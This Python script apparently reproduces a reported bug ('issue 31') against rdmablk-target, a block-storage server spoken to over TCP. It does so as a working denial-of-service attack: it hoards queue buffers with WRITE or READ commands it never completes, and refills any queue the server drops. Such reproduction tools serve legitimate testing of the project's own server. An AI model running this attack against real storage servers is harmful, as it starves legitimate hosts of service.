#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Pool hoarding attack on rdmablk-target over tcp (issue 31): one session
fills its I/O queues with keyed commands whose buffers it never lets go.

  --mode write  keyed WRITEs whose data it never lets the target fetch (it
                never answers the READ_REQs);
  --mode read   READs whose data and responses it never reads off the socket
                (nor acknowledges).

A queue the target drops is connected again and filled again at once (the
admin queue is kept alive with KEEPALIVEs), until --seconds pass or SIGTERM.
Prints "io queue QID port PORT" for every I/O queue it connects (the target
names that peer when it drops the queue) and a one-line summary at the end.

usage: attack-pool-hoard.py HOST PORT EXPORT [--mode write|read] [--queues N]
       [--depth N] [--length BYTES] [--seconds N] [--hostid ID]
"""
import argparse
import signal
import socket
import struct
import sys
import threading
import time

from tcphost import Host, capsule, OP_READ, OP_WRITE, OP_KEEPALIVE, SGL_NONE

TCP_ESTABLISHED = 1


def alive(h):
    """The target has not closed the connection (its tcp state, so that
    unread data in the socket does not matter)."""
    try:
        return h.s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == TCP_ESTABLISHED
    except OSError:
        return False


class Attack:
    def __init__(self, a):
        self.a = a
        self.stop = threading.Event()
        self.sent = self.renewals = self.refused = self.sessions = 0
        self.admin = None
        self.lock = threading.Lock()

    def log(self, msg):
        print(msg, flush=True)

    def connect_session(self):
        a = self.a
        self.admin = Host(a.port, addr=a.host, timeout=30)
        st, sid, rsp = self.admin.connect(a.hostid, a.export, nq=a.queues, depth=a.depth,
                                          kato_ms=60000)
        if st != 0:
            raise RuntimeError("CONNECT refused with status %d" % st)
        self.admin.ack()
        self.sid = sid
        self.handle = struct.unpack("<I", rsp[28:32])[0]
        self.sessions += 1
        threading.Thread(target=self.keepalive, args=(self.admin,), daemon=True).start()

    def keepalive(self, adm):
        cid = 0
        while not self.stop.is_set():
            try:
                adm.send(capsule(OP_KEEPALIVE, 0x100 + cid % 64, 0, sgl=SGL_NONE))
                adm.response()
                adm.ack()
            except (OSError, EOFError, AssertionError):
                return
            cid += 1
            self.stop.wait(1)

    def open_queue(self, qid):
        a = self.a
        try:
            return Host(a.port, qid=qid, depth=a.depth, session=self.sid, addr=a.host,
                        timeout=30)
        except (ConnectionRefusedError, EOFError, OSError):
            return None

    def fill(self, qid, q=None):
        """Connect I/O queue qid (unless q is it) and fill every credit;
        None if refused."""
        a = self.a
        q = q or self.open_queue(qid)
        if q is None:
            self.refused += 1
            return None
        depth = struct.unpack_from("<H", q.accept, 6)[0]
        self.log("io queue %d port %d" % (qid, q.s.getsockname()[1]))
        op = OP_WRITE if a.mode == "write" else OP_READ
        try:
            for cid in range(depth):
                q.send(capsule(op, cid, a.length, handle=self.handle,
                               offset=(cid * a.length) % a.span), ack=0)
                self.sent += 1
        except OSError:
            pass
        return q

    def run(self):
        a = self.a
        end = time.monotonic() + a.seconds
        qs = {}
        probe = time.monotonic()
        while not self.stop.is_set() and time.monotonic() < end:
            if self.admin is None or not alive(self.admin):
                for q in qs.values():
                    if q:
                        q.close()
                qs = {}
                try:
                    self.connect_session()
                except (OSError, EOFError, RuntimeError, AssertionError) as e:
                    self.log("session refused: %s" % e)
                    self.refused += 1
                    self.admin = None
                    self.stop.wait(0.2)
                    continue
            # A READ queue whose data sits unread may look established after
            # the target dropped it (its close waits behind a zero window):
            # once a second, a new connection for its qid tells (the target
            # refuses a qid still in use).
            probing = a.mode == "read" and time.monotonic() >= probe
            if probing:
                probe = time.monotonic() + 1
            for qid in range(1, a.queues + 1):
                q = qs.get(qid)
                fresh = None
                if q is not None and alive(q):
                    if not probing:
                        continue
                    fresh = self.open_queue(qid)
                    if fresh is None:
                        continue
                if q is not None:
                    q.close()
                    self.renewals += 1
                qs[qid] = self.fill(qid, fresh)
            if len(qs) == a.queues and all(qs.values()) and not a.quiet_filled:
                a.quiet_filled = True
                self.log("filled %d queues x %d %ss" % (a.queues, a.depth, a.mode.upper()))
            self.stop.wait(0.1)
        for q in qs.values():
            if q:
                q.close()
        self.summary()

    def summary(self):
        with self.lock:
            if getattr(self, "done", False):
                return
            self.done = True
        self.log("attack-pool-hoard: mode %s, %d queue(s) x depth %d, %d %ss sent never %s, "
                 "%d queues dropped by the target and renewed, %d refusals, %d session(s)" %
                 (self.a.mode, self.a.queues, self.a.depth, self.sent, self.a.mode.upper(),
                  "fetched" if self.a.mode == "write" else "read", self.renewals, self.refused,
                  self.sessions))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("export")
    p.add_argument("--mode", choices=("write", "read"), default="write")
    p.add_argument("--queues", type=int, default=2)
    p.add_argument("--depth", type=int, default=128)
    p.add_argument("--length", type=int, default=4096)
    p.add_argument("--span", type=int, default=1 << 20, help="bytes of the export used")
    p.add_argument("--seconds", type=float, default=60)
    p.add_argument("--hostid", default="pool-hoarder")
    a = p.parse_args()
    a.quiet_filled = False
    att = Attack(a)

    def on_term(sig, frame):
        att.stop.set()

    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    try:
        att.run()
    finally:
        att.summary()


if __name__ == "__main__":
    sys.exit(main())
